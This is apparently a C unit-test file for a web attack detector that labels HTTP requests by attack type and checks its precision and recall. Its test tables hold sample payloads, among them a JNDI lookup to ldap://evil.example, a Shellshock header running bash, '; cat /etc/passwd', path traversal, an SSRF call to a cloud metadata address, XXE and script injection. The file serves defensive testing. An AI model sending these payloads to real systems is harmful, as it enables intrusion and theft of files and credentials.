/* Requests with attacks and without: whole records, the own sets, a public set. */
/* SPDX-License-Identifier: Apache-2.0 */
#include "enrich/webattack.h"

#include "base/fs.h"
#include "random.h"
#include "test.h"

#define LINES_MAX 1000U

static const char hex[] = "0123456789ABCDEF";

static void
put_percent(struct buf *to, unsigned char c)
{
	buf_byte(to, '%');
	buf_byte(to, hex[c >> 4]);
	buf_byte(to, hex[c & 15]);
}

/* As a browser sends it. */
static void
put_sent(struct buf *to, struct str s)
{
	for (size_t i = 0; i < s.n; i++)
		put_percent(to, (unsigned char)s.p[i]);
}

static unsigned
best(const struct webattack_verdict *v, enum webattack_type *ret_type)
{
	unsigned max = 0;

	for (unsigned t = 0; t < WEBATTACK_TYPES; t++) {
		if (v->score[t] <= max)
			continue;
		max = v->score[t];
		*ret_type = (enum webattack_type)t;
	}
	return max;
}

static unsigned
judge(struct webattack *w, struct str sent, enum webattack_place place, enum webattack_type *ret)
{
	struct webattack_verdict v;

	webattack_judge(w, STR("q"), sent, place, &v, NULL);
	return best(&v, ret);
}

struct set {
	struct buf text;
	struct str lines[LINES_MAX];
	size_t n;
};

static void
load(struct set *set, const char *name)
{
	char path[100];
	struct str rest, line;
	struct diag why;

	buf_init(&set->text, 0);
	set->n = 0;
	(void)snprintf(path, sizeof(path), "test/case/webattack/%s", name);
	CHECK_OK(fs_read(test_source(path), 1U << 20, &set->text, &why), why);
	rest = buf_view(&set->text);
	while (str_line(&rest, &line) && set->n < LINES_MAX)
		if (line.n != 0)
			set->lines[set->n++] = line;
	CHECK(set->n > 10 && set->n < LINES_MAX);
}

/* How many lines of a set are seen as an attack, as a parameter; each other one is printed. */
static size_t
seen(const struct set *set, bool wanted, bool typed)
{
	struct webattack *w = webattack_new();
	struct buf sent = { 0 };
	size_t n = 0;

	for (size_t i = 0; i < set->n; i++) {
		enum webattack_type type = WEBATTACK_TYPES;
		struct str line = set->lines[i];
		unsigned score;

		if (typed)
			(void)str_until(&line, ' ');
		buf_reset(&sent);
		put_sent(&sent, line);
		score = judge(w, buf_view(&sent), WEBATTACK_QUERY, &type);
		n += score >= WEBATTACK_SURE;
		if ((score >= WEBATTACK_SURE) != wanted)
			fprintf(stderr, "%u %.*s\n", score, STR_ARG(line));
	}
	buf_fini(&sent);
	webattack_free(w);
	return n;
}

TEST(ordinary_values_are_none)
{
	static struct set set;

	load(&set, "benign.txt");
	CHECK(set.n >= 500);
	CHECK_INT(seen(&set, false, false), 0);
	buf_fini(&set.text);
}

/* Those of our own that are missed are counted, so that one more is noticed. */
TEST(attacks_are_seen)
{
	static const struct {
		const char *file;
		size_t missed;
	} sets[] = { { "sql_injection.txt", 4 }, { "xss.txt", 0 }, { "path_traversal.txt", 0 },
		{ "command_injection.txt", 1 }, { "ssrf.txt", 0 }, { "lookup_injection.txt", 0 },
		{ "template_injection.txt", 0 }, { "other.txt", 0 } };
	static struct set set;

	for (size_t i = 0; i < ARRAY_LEN(sets); i++) {
		load(&set, sets[i].file);
		CHECK(seen(&set, true, i + 1 == ARRAY_LEN(sets)) + sets[i].missed >= set.n);
		buf_fini(&set.text);
	}
}

/* What an attack is called: of a set, nine in ten by its own name. */
TEST(attacks_are_named)
{
	static const struct {
		const char *file;
		enum webattack_type type;
	} sets[] = { { "sql_injection.txt", WEBATTACK_SQL }, { "xss.txt", WEBATTACK_XSS },
		{ "path_traversal.txt", WEBATTACK_PATH },
		{ "command_injection.txt", WEBATTACK_COMMAND }, { "ssrf.txt", WEBATTACK_SSRF },
		{ "lookup_injection.txt", WEBATTACK_LOOKUP },
		{ "template_injection.txt", WEBATTACK_TEMPLATE } };
	struct webattack *w = webattack_new();
	struct buf sent = { 0 };
	static struct set set;

	for (size_t i = 0; i < ARRAY_LEN(sets); i++) {
		size_t right = 0;

		load(&set, sets[i].file);
		for (size_t k = 0; k < set.n; k++) {
			struct webattack_verdict v;

			buf_reset(&sent);
			put_sent(&sent, set.lines[k]);
			webattack_judge(w, STR("url"), buf_view(&sent), WEBATTACK_QUERY, &v, NULL);
			right += v.score[sets[i].type] >= WEBATTACK_SURE;
		}
		fprintf(stderr, "%s: %zu of %zu\n", sets[i].file, right, set.n);
		CHECK(right * 10 >= set.n * 9);
		buf_fini(&set.text);
	}
	buf_fini(&sent);
	webattack_free(w);
}

/* One field of CSV with doubled quotes; the rest of *s stands behind its comma. */
static void
csv_field(struct str *s, struct buf *to)
{
	bool quoted = s->n != 0 && s->p[0] == '"';

	buf_reset(to);
	if (quoted)
		*s = str_from(*s, 1);
	while (s->n != 0) {
		char c = s->p[0];
		bool twice = s->n > 1 && s->p[1] == '"';

		if (!quoted && (c == ',' || c == '\n' || c == '\r'))
			break;
		if (quoted && c == '"') {
			*s = str_from(*s, 1);
			if (!twice)
				break;
		}
		buf_byte(to, c);
		*s = str_from(*s, 1);
	}
	while (s->n != 0 && s->p[0] == '\r')
		*s = str_from(*s, 1);
	if (s->n != 0)
		*s = str_from(*s, 1);
}

/* Public data: precision of at least 0.995, recall of at least 0.985. */
TEST(public_parameters)
{
	const char *path = test_corpus("httpparams/payload_train.csv");
	struct buf text = { 0 }, payload = { 0 }, field = { 0 }, sent = { 0 };
	struct webattack *w = webattack_new();
	unsigned hits = 0, false_hits = 0, missed = 0;
	struct diag why;
	struct str rest;

	CHECK_OK(fs_read(path, (size_t)64 << 20, &text, &why), why);
	rest = buf_view(&text);
	(void)str_until(&rest, '\n');
	while (rest.n != 0) {
		enum webattack_type type;
		bool attack, hit;

		csv_field(&rest, &payload);
		csv_field(&rest, &field);
		csv_field(&rest, &field);
		csv_field(&rest, &field);
		attack = str_eq(buf_view(&field), STR("anom"));
		buf_reset(&sent);
		put_sent(&sent, buf_view(&payload));
		hit = judge(w, buf_view(&sent), WEBATTACK_QUERY, &type) >= WEBATTACK_SURE;
		hits += attack && hit;
		false_hits += !attack && hit;
		missed += attack && !hit;
	}
	fprintf(stderr, "%u found, %u missed, %u false\n", hits, missed, false_hits);
	CHECK(hits + missed > 7000);
	CHECK(hits * 1000U >= (hits + false_hits) * 995U);
	CHECK(hits * 1000U >= (hits + missed) * 985U);
	buf_fini(&text);
	buf_fini(&payload);
	buf_fini(&field);
	buf_fini(&sent);
	webattack_free(w);
}

struct request {
	struct arena *a;
	struct rec r;
	struct webattack *w;
};

static void
begin(struct request *q)
{
	q->a = arena_new((size_t)1 << 20);
	q->w = webattack_new();
	rec_init(&q->r, q->a);
}

static void
end(struct request *q)
{
	webattack_free(q->w);
	arena_free(q->a);
}

/* Where in a request an attack is, what it is called, what is shown of it. */
TEST(every_place)
{
	static const struct {
		enum field field;
		const char *text, *type, *where, *value;
	} cases[] = {
		{ F_URL, "/p?a=1&id=1%27%20or%20%271%27=%271", "sql_injection", "query id",
		    "1' or '1'='1" },
		{ F_URL, "https://x.example/p?a=1&id=1%27+or+%271%27=%271#x", "sql_injection",
		    "query id", NULL },
		{ F_URL, "/static/..%2f..%2f..%2fetc/passwd", "path_traversal", "path",
		    "/static/../../../etc/passwd" },
		{ F_URL, "/../x", "path_traversal", "path", "/../x" },
		{ F_URL, "/p?<script>alert(1)</script>=1", "xss", "query <script>alert(1)</script>",
		    NULL },
		{ F_URL, "/p?user[$ne]=x", "nosql_injection", "query user[$ne]", NULL },
		{ F_URL, "/p?class.module.classLoader.resources=x", "code_injection",
		    "query class.module.classloader.resources", NULL },
		{ F_URL, "/p?x=%0d%0aSet-Cookie:%20a=b", "header_injection", "query x", NULL },
		{ F_URL, "/p?u=http://169.254.169.254/latest", "ssrf", "query u", NULL },
		{ F_QUERY, "id=1;select+pg_sleep(5)", "sql_injection", "query id", NULL },
		{ F_ENDPOINT, "/a/../../../../etc/passwd", "path_traversal", "path", NULL },
		{ F_REQUEST_BODY, "name=a&text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", "xss",
		    "body text", NULL },
		{ F_REQUEST_BODY,
		    "{\"user\":{\"name\":\"x\\\"; \\u003cscript>alert(1)</script>\"}}", "xss",
		    "body name", NULL },
		{ F_REQUEST_BODY, "{\"password\":{\"$ne\":null}}", "nosql_injection", "body $ne",
		    NULL },
		{ F_REQUEST_BODY,
		    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]>", "xxe",
		    "body", NULL },
		{ F_REQUEST_BODY, "[\"a\", \"; cat /etc/passwd\"]", "command_injection", "body",
		    NULL },
		{ F_USER_AGENT, "${${lower:j}ndi:ldap://evil.example/a}", "lookup_injection",
		    "header user-agent", NULL },
		{ F_USER_AGENT, "() { :; }; /bin/bash -c id", "command_injection",
		    "header user-agent", NULL },
		{ F_REFERER, "http://x.example/?q=\"><script>alert(1)</script>", "xss",
		    "header referer", NULL },
		{ F_URL, "/p?x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "xss", "query x",
		    "<script>alert(1)</script>" },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct request q;

		begin(&q);
		rec_set_str(&q.r, cases[i].field, str_c(cases[i].text));
		webattack_apply(q.w, &q.r);
		if (!rec_has(&q.r, F_WEB_ATTACK_TYPE))
			test_fail(TEST_AT(cases), "nothing in %s", cases[i].text);
		CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_TYPE), cases[i].type);
		CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_WHERE), cases[i].where);
		if (cases[i].value != NULL)
			CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_VALUE), cases[i].value);
		CHECK(rec_int(&q.r, F_WEB_ATTACK_CONFIDENCE, 0) >= 70);
		end(&q);
	}
}

TEST(ordinary_requests)
{
	static const struct {
		enum field field;
		const char *text;
	} cases[] = {
		{ F_URL, "/" },
		{ F_URL, "/search?q=o%27brien+and+sons&page=2&sort=price%3Aasc" },
		{ F_URL, "/wiki/C_(programming_language)" },
		{ F_URL, "/blog/2026/../../img/logo.png" },
		{ F_URL, "/login?next=https%3A%2F%2Fapp.example%2Fhome%3Fa%3D1%26b%3D2" },
		{ F_URL,
		    "/oauth?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&state=a1b2" },
		{ F_URL, "/api/items?filter[price]=10&fields=id,name&include=a.b" },
		{ F_URL, "/recaptcha/api.js?onload=onLoaded&render=explicit" },
		{ F_USER_AGENT,
		    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
		    "like Gecko) Chrome/120.0.0.0 Safari/537.36" },
		{ F_USER_AGENT,
		    "Mozilla/5.0 (X11; U; Linux i686; de; rv:1.9) Gecko/2008 (Debian)" },
		{ F_REFERER,
		    "https://www.google.com/search?q=select+name+from+users+where+id%3D1" },
		{ F_REQUEST_BODY,
		    "{\"text\":\"It's fine; I don't mind.\\nSee you -- Tom\",\"n\":[1,2]}" },
		{ F_REQUEST_BODY, "comment=I%27d+like+2+%26+3%3B+thanks%21&ok=1" },
		{ F_REQUEST_BODY, "" },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct request q;

		begin(&q);
		rec_set_str(&q.r, cases[i].field, str_c(cases[i].text));
		webattack_apply(q.w, &q.r);
		if (rec_has(&q.r, F_WEB_ATTACK_TYPE))
			test_fail(TEST_AT(cases), "%.*s in %s",
			    STR_ARG(rec_str(&q.r, F_WEB_ATTACK_TYPE)), cases[i].text);
		end(&q);
	}
}

TEST(several_attacks_strongest_first)
{
	struct request q;

	begin(&q);
	rec_set_str(&q.r, F_URL,
	    STR("/p?a=${jndi:ldap://x/a}&b=<script>alert(1)</script>&c=../../x"));
	webattack_apply(q.w, &q.r);
	CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_TYPES), "lookup_injection xss path_traversal");
	CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_WHERE), "query a");
	end(&q);
}

TEST(what_the_sender_found_stays)
{
	struct request q;

	begin(&q);
	rec_set_str(&q.r, F_URL, STR("/p?a=1'%20or%201=1--"));
	rec_set_str(&q.r, F_WEB_ATTACK_TYPE, STR("xss"));
	webattack_apply(q.w, &q.r);
	CHECK_SLICE(rec_str(&q.r, F_WEB_ATTACK_TYPE), "xss");
	CHECK(!rec_has(&q.r, F_WEB_ATTACK_CONFIDENCE));
	end(&q);
}

/* A request of a megabyte, or of very many parameters, is looked at as far as the caps go. */
TEST(caps)
{
	struct buf text = { 0 };
	struct request q;

	begin(&q);
	buf_str(&text, STR("/p?"));
	for (unsigned i = 0; i < WEBATTACK_VALUES - 2; i++)
		buf_str(&text, STR("a=1&"));
	buf_str(&text, STR("v=1'+or+'1'='1"));
	rec_set_str(&q.r, F_URL, buf_view(&text));
	webattack_apply(q.w, &q.r);
	CHECK(rec_has(&q.r, F_WEB_ATTACK_TYPE));
	end(&q);

	begin(&q);
	buf_reset(&text);
	buf_str(&text, STR("/p?"));
	for (unsigned i = 0; i < WEBATTACK_VALUES; i++)
		buf_str(&text, STR("a=1&"));
	buf_str(&text, STR("v=1'+or+'1'='1"));
	rec_set_str(&q.r, F_URL, buf_view(&text));
	webattack_apply(q.w, &q.r);
	CHECK(!rec_has(&q.r, F_WEB_ATTACK_TYPE));
	end(&q);

	begin(&q);
	buf_reset(&text);
	buf_str(&text, STR("/p?q="));
	for (unsigned i = 0; i < WEBATTACK_VALUE_MAX; i++)
		buf_byte(&text, 'x');
	buf_str(&text, STR("'><script>alert(1)</script>"));
	rec_set_str(&q.r, F_URL, buf_view(&text));
	webattack_apply(q.w, &q.r);
	CHECK(!rec_has(&q.r, F_WEB_ATTACK_TYPE));
	end(&q);
	buf_fini(&text);
}

/* A reader that saw these texts before says what one says that sees them for the first time. */
TEST(remembers_without_a_change)
{
	static const char *const urls[] = { "/", "/a/b.html", "/p?q=red+shoes&page=2",
		"/p?id=1%27%20or%20%271%27=%271", "/p?q=o%27brien", "/../../etc/passwd",
		"/p?a=1&a=2&a=3&file=../../x", "?&&&", "/p?q=select+a+from+b" };
	static const char *const heads[] = { "", "-", "curl/8", "${jndi:ldap://x/a}",
		"Mozilla/5.0 (X11) Gecko", "() { :;}; /bin/id", "https://a.example/?q=<script>",
		"() x(){ :;}", "/p?q=red+shoes&page=2" };
	static const enum field fields[] = { F_WEB_ATTACK_TYPE, F_WEB_ATTACK_TYPES,
		F_WEB_ATTACK_WHERE, F_WEB_ATTACK_VALUE };
	uint64_t s = random_start(test_seed());
	unsigned attacks = 0;
	struct request old;

	begin(&old);
	for (unsigned i = 0; i < 1000; i++) {
		const char *url = urls[random_below(&s, ARRAY_LEN(urls))];
		const char *agent = heads[random_below(&s, ARRAY_LEN(heads))];
		const char *referer = heads[random_below(&s, ARRAY_LEN(heads))];
		struct request new_;

		begin(&new_);
		arena_reset(old.a);
		rec_init(&old.r, old.a);
		for (unsigned k = 0; k < 2; k++) {
			struct request *q = k == 0 ? &old : &new_;

			rec_set_str(&q->r, F_URL, str_c(url));
			rec_set_str(&q->r, F_USER_AGENT, str_c(agent));
			rec_set_str(&q->r, F_REFERER, str_c(referer));
			webattack_apply(q->w, &q->r);
		}
		for (size_t k = 0; k < ARRAY_LEN(fields); k++)
			CHECK(str_eq(rec_str(&old.r, fields[k]), rec_str(&new_.r, fields[k])));
		CHECK_INT(rec_int(&old.r, F_WEB_ATTACK_CONFIDENCE, 0),
		    rec_int(&new_.r, F_WEB_ATTACK_CONFIDENCE, 0));
		attacks += rec_has(&old.r, F_WEB_ATTACK_TYPE);
		end(&new_);
	}
	CHECK(attacks > 100 && attacks < 900);
	end(&old);
}
